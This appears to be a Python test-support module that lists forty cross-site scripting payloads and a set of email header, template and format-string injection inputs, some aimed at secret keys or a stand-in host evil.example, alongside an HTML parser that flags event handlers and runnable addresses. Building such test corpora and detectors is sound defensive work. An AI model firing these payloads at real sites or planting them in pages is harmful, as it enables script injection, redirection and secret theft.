"""Texts that try to become more than text: markup for pages, line breaks and template signs for letters."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

# Forty ways into a page: elements, attributes that break out, addresses that run, comments, entities, odd spaces.
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.svg>",
    "<form action=//evil.example/><input name=q>",
    "<button formaction=javascript:alert(1)>go",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>click</a>",
    "<a href=https://evil.example/ target=_blank>bill</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></script><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)//https://evil.example/",
    "https://evil.example/<img src=x onerror=alert(1)>",
    "<img\tsrc=x\u00a0onerror\u2028=alert(1)>",
)
# Ways into the head of a letter, and into a template or a format.
LINES = (
    "Eve\r\nBcc: victim@example.org",
    "Eve\nSubject: Another",
    "Eve\rContent-Type: text/html\r\n\r\n<h1>Hi</h1>",
    "Eve%0d%0aBcc: victim@example.org",
    "Eve\u2028Bcc: victim@example.org",
    "{{7*7}} {{ settings.SECRET_KEY }} {% load i18n %}{% debug %}",
    "%s %(name)s %n %%",
    "{0} {name.__class__.__mro__} ${7*7} #{7*7}",
    "=?utf-8?b?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=",
    "long " * 400,
)
RUNS = re.compile(r"^\s*(?:javascript|data|vbscript):", re.IGNORECASE)
ADDRESSES = {"href", "src", "action", "formaction", "srcdoc", "data", "xlink:href", "poster"}


class Shape(HTMLParser):
    """What a page is made of: each element with the names of its attributes, in order; and whatever could run."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.dangers: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the element."""
        self.elements.append(f"{tag} {' '.join(sorted(name for name, _value in attrs))}")
        self.dangers += _dangers(tag, attrs)


def _dangers(tag: str, attrs: list[tuple[str, str | None]]) -> Iterator[str]:
    for name, value in attrs:
        runs = name in ADDRESSES and (RUNS.match(value or "") or "evil.example" in (value or ""))
        if name.startswith("on") or runs:
            yield f"<{tag} {name}={value!r}>"
